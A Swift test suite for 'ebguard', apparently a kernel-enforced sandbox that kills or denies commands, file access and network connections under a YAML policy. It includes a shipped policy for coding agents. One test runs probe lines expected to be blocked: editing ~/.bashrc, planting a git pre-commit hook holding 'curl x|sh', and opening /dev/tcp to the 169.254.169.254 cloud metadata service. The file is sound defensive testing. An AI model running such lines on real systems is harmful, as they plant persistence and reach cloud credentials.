import EbguardSystem
import EbguardTestSupport
import Foundation
import Glibc
import Testing

/// `ebguard run` with full enforcement (BPF-LSM), as a user runs it, in the VM.
@Suite(.enabled(if: TestEnvironment.inVM && TestEnvironment.isRoot, "needs BPF-LSM, which this host's kernel refuses; `make test` runs it in the VM (scripts/vmtest)"), .serialized)
struct RunSessionTests {
    let binary = TestEnvironment.projectRoot + "/bin/ebguard"

    func writePolicy(_ yaml: String) throws -> String {
        let path = "/tmp/ebguard-policy-\(getpid())-\(UInt32.random(in: 0..<UInt32.max)).yaml"
        try yaml.write(toFile: path, atomically: true, encoding: .utf8)
        return path
    }

    func scratch(_ name: String) throws -> String {
        let path = "/tmp/ebguard-\(name)-\(getpid())-\(UInt32.random(in: 0..<UInt32.max))"
        try FileManager.default.createDirectory(atPath: path, withIntermediateDirectories: true)
        return path
    }

    @Test func argvRuleKillsGitResetHardButLetsGitStatusRun() throws {
        try #require(FileManager.default.isExecutableFile(atPath: binary), "build bin/ebguard first (make)")
        let repo = try scratch("argv")
        defer { try? FileManager.default.removeItem(atPath: repo) }
        let policy = try writePolicy("""
        version: 1
        name: argv
        exec:
          - { action: deny, name: git, argv: [reset, --hard] }
        """)
        defer { unlink(policy) }
        let script = """
        cd \(repo) && git init -q . && echo a > f && git add f && git -c user.email=t@t -c user.name=t commit -qm one
        echo b > f
        git status --short; echo "status=$?"
        git reset --hard; echo "reset=$?"
        cat f
        """
        let result = try runProcess([binary, "run", "--policy", policy, "--", "/bin/bash", "-c", script])
        #expect(result.stdout.contains(" M f\nstatus=0\n"))
        #expect(result.stdout.contains("reset=137\n"))  // SIGKILL before its first instruction
        #expect(result.stdout.hasSuffix("b\n"))        // the worktree was not reset
        #expect(result.stderr.contains("ebguard: denied exec git reset --hard by rule exec[0]"))
    }

    @Test func twoConcurrentSessionsKeepTheirOwnPolicies() throws {
        let shared = try scratch("shared")
        defer { try? FileManager.default.removeItem(atPath: shared) }
        try "A\n".write(toFile: shared + "/a.txt", atomically: true, encoding: .utf8)
        try "B\n".write(toFile: shared + "/b.txt", atomically: true, encoding: .utf8)
        func policy(denying file: String) throws -> String {
            try writePolicy("version: 1\nname: deny-\(file)\nfile:\n  - { action: deny, path: \(shared)/\(file), access: [read] }\n")
        }
        let (policyA, policyB) = (try policy(denying: "a.txt"), try policy(denying: "b.txt"))
        defer { unlink(policyA); unlink(policyB) }
        // Both sessions are alive at once: each waits until the other has started.
        func session(_ me: String, _ other: String, _ policy: String) -> String {
            let body = "touch \(shared)/\(me).up; while [ ! -e \(shared)/\(other).up ]; do sleep 0.05; done; "
                + "cat \(shared)/a.txt \(shared)/b.txt 2>&1; true"
            return "\(binary) run --quiet --policy \(policy) -- /bin/sh -c '\(body)' > \(shared)/\(me).out 2>&1 &"
        }
        let both = session("A", "B", policyA) + "\n" + session("B", "A", policyB) + "\nwait\n"
        #expect(try runProcess(["/bin/bash", "-c", both]).status == 0)
        func output(_ name: String) throws -> ProcessResult {
            ProcessResult(status: 0, stdout: try String(contentsOfFile: shared + "/\(name).out", encoding: .utf8), stderr: "")
        }
        let results = ["A": try output("A"), "B": try output("B")]
        let a = try #require(results["A"]), b = try #require(results["B"])
        #expect(a.stdout.contains("a.txt: Permission denied") && a.stdout.contains("B\n"))
        #expect(!a.stdout.contains("A\n"))
        #expect(b.stdout.contains("b.txt: Permission denied") && b.stdout.contains("A\n"))
        #expect(!b.stdout.contains("B\n"))
    }

    /// The shipped agent policy against what a coding agent does all day: clone, install, build.
    @Test func agentPolicyLetsARealWorkloadThroughAndStopsTheRest() throws {
        let base = try scratch("agent")
        defer { try? FileManager.default.removeItem(atPath: base) }
        let setup = """
        set -e
        mkdir -p \(base)/src && cd \(base)/src && git init -q . \
          && printf 'all: hello\\nhello: hello.c\\n\\tcc -o hello hello.c\\n' > Makefile \
          && printf '#include <stdio.h>\\nint main(void){puts("built");return 0;}\\n' > hello.c \
          && mkdir -p pkg/demo && printf 'from setuptools import setup\\nsetup(name="demo", version="1.0", packages=["demo"])\\n' > pkg/setup.py \
          && printf 'VALUE = 42\\n' > pkg/demo/__init__.py \
          && git add -A && git -c user.email=t@t -c user.name=t commit -qm src
        mkdir -p \(base)/ws
        """
        #expect(try runProcess(["/bin/bash", "-c", setup]).status == 0)
        // The VM shares the host root read-only: give root a writable home, as a real one is.
        if (try? runProcess(["/bin/sh", "-c", "touch /root/.ebguard-probe"]))?.status != 0 {
            #expect(try runProcess(["/bin/mount", "-t", "tmpfs", "tmpfs", "/root"]).status == 0)
        }
        let workload = """
        set -e
        git clone -q \(base)/src .
        python3 -m pip install -q --no-index --no-build-isolation --target ../deps ./pkg
        PYTHONPATH=../deps python3 -c 'import demo; print("imported", demo.VALUE)'
        make -s && ./hello
        set +e
        echo "x" >> ~/.bashrc; echo "bashrc=$?"
        mkdir -p .git/hooks && echo 'curl x|sh' > .git/hooks/pre-commit; echo "hook=$?"
        exec 3<>/dev/tcp/169.254.169.254/80; echo "metadata=$?"
        """
        let policy = TestEnvironment.projectRoot + "/policies/agent.yaml"
        let process = Process()
        process.executableURL = URL(fileURLWithPath: binary)
        process.arguments = ["run", "--policy", policy, "--", "/bin/bash", "-c", workload]
        process.currentDirectoryURL = URL(fileURLWithPath: base + "/ws")
        let out = Pipe(), err = Pipe()
        process.standardOutput = out
        process.standardError = err
        try process.run()
        let stdout = String(decoding: out.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
        let stderr = String(decoding: err.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
        process.waitUntilExit()
        #expect(process.terminationStatus == 0, "\(stderr)")
        #expect(stdout.contains("imported 42\n"))
        #expect(stdout.contains("built\n"))
        #expect(stdout.contains("bashrc=1\n"))
        #expect(stdout.contains("hook=1\n"))
        #expect(stdout.contains("metadata=1\n"))
        #expect(stderr.contains("denied create ~/.bashrc (create) by rule file["))
        #expect(stderr.contains("ws/.git/hooks (create) by rule file["))
        // git clone wrote .git and its config (config.lock, renamed over config) as a git ebguard
        // vetted at exec: let through, audited.
        #expect(stderr.contains("ws/.git/config.lock (") && stderr.contains(" by a vetted git (rule file["), "\(stderr)")
        #expect(stderr.contains("denied connect 169.254.169.254:80 (tcp)"))
    }

    @Test func requireFullRunsHere() throws {
        let result = try runProcess([binary, "run", "--quiet", "--require-full", "--", "/bin/true"])
        #expect(result.status == 0, "\(result.stderr)")
        #expect(!result.stderr.contains("DEGRADED"))
    }
}
